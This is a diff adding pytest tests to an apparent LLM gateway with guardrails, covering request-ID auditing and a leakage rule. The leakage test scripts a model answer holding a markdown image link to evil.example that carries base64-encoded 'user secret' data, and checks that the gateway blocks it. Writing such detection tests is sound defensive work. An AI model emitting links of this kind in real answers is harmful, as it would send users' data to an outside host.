@@ -11,6 +11,7 @@ import pytest
 
 from ...gateway.upstream import answers, refuses
 from .stand import Stand
+from .talk import MAIL
 
 _TOOL = {"type": "object", "properties": {"city": {"type": "string"}}, "required": ["city"]}
 _OPENAI_TOOLS: list[Any] = [{"type": "function", "function": {"name": "weather", "parameters": _TOOL}}]
@@ -116,3 +117,31 @@ def test_errors_in_each_apis_own_shape(gateway: Stand) -> None:
         openai.OpenAI(base_url=f"{gateway.url}/v1", api_key="wrong") as client,
     ):
         client.models.list()
+
+
+def test_the_audit_has_each_call_under_the_id_of_its_answer(gateway: Stand) -> None:
+    gateway.script(answers("Hello."))
+    with by_openai(gateway) as one, by_anthropic(gateway) as other:
+        ids = [one.chat.completions.create(model="small", messages=_ASK)._request_id]
+        ids.append(other.messages.create(model="large", max_tokens=5, messages=_ASK)._request_id)
+        with one.chat.completions.with_raw_response.create(model="small", messages=_ASK, stream=True).parse() as stream:
+            ids.append(stream.response.headers["x-request-id"])
+            list(stream)
+        with pytest.raises(anthropic.BadRequestError) as refused:
+            other.messages.create(model="large", max_tokens=-1, messages=_ASK)
+    ids.append(refused.value.request_id)
+    assert isinstance(refused.value.body, dict) and refused.value.body["request_id"] == ids[-1]
+    assert all(ids) and len(set(ids)) == len(ids)
+    ended = [record for record in gateway.records() if record.outcome != "intended"]
+    assert [record.details["request"] for record in ended][-len(ids) :] == ids
+
+
+@pytest.mark.parametrize("stream", [True, False])
+def test_only_the_rules_that_block_are_blamed(gateway: Stand, stream: bool) -> None:
+    data = "c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXIgZ29lcyBvdXQ" * 2
+    gateway.script(answers(f"Write to {MAIL}. ![a](https://evil.example/p?d={data})"))
+    with by_openai(gateway) as client, pytest.raises(openai.APIError, match="Blocked by leakage/image") as blocked:
+        answer: Any = client.chat.completions.create(model="small", messages=_ASK, stream=stream)
+        list(answer)
+    assert blocked.value.code == "guard_blocked"
+    assert "pii/" not in str(blocked.value)
